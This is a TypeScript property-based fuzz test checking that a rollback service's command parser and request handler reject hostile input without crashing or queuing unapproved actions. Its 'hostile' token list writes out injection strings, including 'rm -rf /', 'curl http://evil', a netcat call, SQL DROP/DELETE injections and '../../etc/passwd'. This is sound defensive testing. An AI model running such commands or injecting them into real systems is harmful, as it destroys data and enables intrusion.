import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AppError, ErrorCode } from '../../src/errors.js';
import { Policy } from '../../src/requests/policy.js';
import { RequestService } from '../../src/requests/service.js';
import { parseCommand } from '../../src/rollback/command.js';
import type { Runtime } from '../../src/runtime.js';
import { SUPPLIER_A } from '../../src/sandbox/seed.js';
import { createTestEnv, memoryLogger, type TestEnv } from '../support/env.js';
import { controlRuntime } from './helpers.js';

const PARSE_RUNS = Number(process.env.SAFETY_FUZZ_PARSE ?? 10_000);
const HANDLE_RUNS = Number(process.env.SAFETY_FUZZ_HANDLE ?? 1_500);

const words = fc.constantFrom(
  'help', 'status', 'history', 'data', 'redis', 'clear-embeddings', 'revert-matches', 'clear-review-queue', 'clear-jobs', 'container',
  'migration', 'full', 'verify', 'regenerate', 'restore', 'incident', 'declare', 'update', 'resolve', 'list', 'unlock', 'P1', 'P9',
  'R-1', 'R-0', 'R-99999999999', 'INC-1', 'DATA', 'Verify',
);
const flags = fc.constantFrom(
  '--dry-run', '--emergency', '--supplier', '--since', '--steps', '--to', '--pre-phase7', '--k8s', '--compose', '--tag', '--to-revision',
  '--limit', '--table', '--json', '--reason', '--force-extension', '--status', '--eta', '--', '---', '--=', '--supplier=', '--steps=1', '-a',
);
const hostile = fc.constantFrom(
  '; rm -rf /', '$(reboot)', '`id`', '&& curl http://evil', '| nc 10.0.0.1 1', "' OR 1=1 --", '"; DROP TABLE supplier_items; --',
  "x'); DELETE FROM ml_rollback.audit; --", '../../etc/passwd', '..', '/dev/null', '%00', '\u0000', '\u202e', '😀', 'Ω≈ç√', '${IFS}', '*', '?',
  '~', '-1', '0', '1', '50', '51', '99999999999', '1e9', 'NaN', SUPPLIER_A, SUPPLIER_A.toUpperCase(), '2024-01-15T10:00:00Z', '2024-01-15 10:00:00',
  '2999-01-01T00:00:00Z', '2024-02-30T10:00:00Z', 'ml-analyze:job:*', '"quoted words"', "'single'", '“curly”', '&lt;@U123&gt;', '<!channel>',
  'backup.dump', 'R-1-product_embeddings', 'a/../../b', 'pg_dump --help', 'postgres://u:p@h/db',
);
const token = fc.oneof(
  { weight: 4, arbitrary: words },
  { weight: 4, arbitrary: flags },
  { weight: 4, arbitrary: hostile },
  { weight: 2, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.uuid() },
  { weight: 1, arbitrary: fc.integer({ min: -10, max: 2_000_000 }).map(String) },
);
const commandish = fc.array(token, { maxLength: 9 }).map((t) => t.join(' '));
/** Grammar-shaped strings (deep into the parser), raw junk, and very long input. */
export const hostileInput = fc.oneof(
  { weight: 12, arbitrary: commandish },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 3_900, maxLength: 6_000 }) },
  { weight: 1, arbitrary: fc.tuple(commandish, fc.constantFrom('\n', '\t', '\r\n', '\u00a0', '  ')).map(([c, sep]) => c.replaceAll(' ', sep)) },
);

describe('hostile input (property-based): the parser and the whole handler', () => {
  it(`parseCommand: ${PARSE_RUNS} inputs; each is a validated command or a bad_input error, never a crash`, () => {
    let valid = 0;
    fc.assert(
      fc.property(hostileInput, (text) => {
        try {
          const cmd = parseCommand(text);
          valid++;
          if (cmd.kind === 'procedure') {
            // Whatever got through is exactly what the validators allow.
            const a = cmd.args;
            if (a.supplier !== undefined) expect(String(a.supplier)).toMatch(/^[0-9a-f-]{36}$/);
            if (a.backup !== undefined) expect(String(a.backup)).not.toMatch(/\.\.|\//);
            if (a.since !== undefined) expect(new Date(String(a.since)).toISOString()).toBe(a.since);
          }
        } catch (err) {
          expect(err).toBeInstanceOf(AppError);
          expect((err as AppError).code).toBe(ErrorCode.BadInput);
          expect((err as AppError).message.length).toBeGreaterThan(5);
        }
      }),
      { numRuns: PARSE_RUNS },
    );
    console.info(`[safety] parser fuzz: ${PARSE_RUNS} cases, ${valid} valid`);
  });

  describe('RequestService.handle with a real store', () => {
    let env: TestEnv;
    let rt: Runtime;
    beforeAll(async () => {
      env = await createTestEnv();
      ({ rt } = await controlRuntime(env));
    });
    afterAll(async () => {
      await rt.close();
      await env.cleanup();
    });

    it(`${HANDLE_RUNS} inputs: no crash, a reply for each, no request for invalid input, nothing approved or queued that needs approval`, async () => {
      const enqueued: string[] = [];
      const svc = new RequestService({
        store: rt.store, deps: rt.deps, notifier: { planned: async () => undefined, decided: async () => undefined, progress: async () => undefined, finished: async () => undefined },
        queue: { enqueue: async (id) => void enqueued.push(id) }, policy: new Policy(rt.deps.config), log: memoryLogger('fatal').log,
      });
      const count = async () => Number((await rt.store.pool.query<{ n: string }>('SELECT count(*) AS n FROM ml_rollback.requests')).rows[0]!.n);
      const stats = { cases: 0, refused: 0, planned: 0 };
      await fc.assert(
        fc.asyncProperty(hostileInput, fc.constantFrom('ml-analyze', 'random'), async (text, channelName) => {
          stats.cases++;
          const before = await count();
          const reply = await svc.handle(text, { userId: 'U0FUZZER01', channelId: 'C0FUZZ', channelName });
          expect(typeof reply.text).toBe('string');
          expect(reply.text.length).toBeGreaterThan(0);
          expect(reply.text).not.toMatch(/TypeError|ReferenceError|\[object Object\]|undefined is not|at .*\.ts:\d+/);
          const parsed = svc.parse(text);
          if (!parsed.ok) {
            expect(reply.ok).toBe(false);
            expect(reply.text).toContain('Usage:');
          }
          if (!reply.ok) {
            stats.refused++;
            expect(await count()).toBe(before);
          } else if (reply.requestId) stats.planned++;
        }),
        { numRuns: HANDLE_RUNS },
      );
      // Nothing that needs approval is approved, running or queued: only read-only plans run unasked.
      const { rows } = await rt.store.pool.query<{ id: string; state: string; risk: string }>('SELECT id, state, risk FROM ml_rollback.requests');
      for (const r of rows) {
        if (r.risk !== 'read-only') expect(['awaiting_approval', 'dry_run']).toContain(r.state);
      }
      const queued = new Set(enqueued);
      for (const r of rows.filter((x) => queued.has(x.id))) expect(r.risk).toBe('read-only');
      expect((await rt.store.pool.query(`SELECT 1 FROM ml_rollback.decisions`)).rowCount).toBe(0);
      expect((await rt.store.pool.query(`SELECT 1 FROM ml_rollback.step_runs`)).rowCount).toBe(0);
      // The target is untouched.
      expect(Number((await env.db.query<{ n: string }>('SELECT count(*) AS n FROM product_embeddings')).rows[0]!.n)).toBeGreaterThan(0);
      console.info(`[safety] handler fuzz: ${stats.cases} cases, ${stats.refused} refused, ${stats.planned} planned (awaiting approval or read-only), ${enqueued.length} read-only queued`);
    }, 120_000);
  });
});
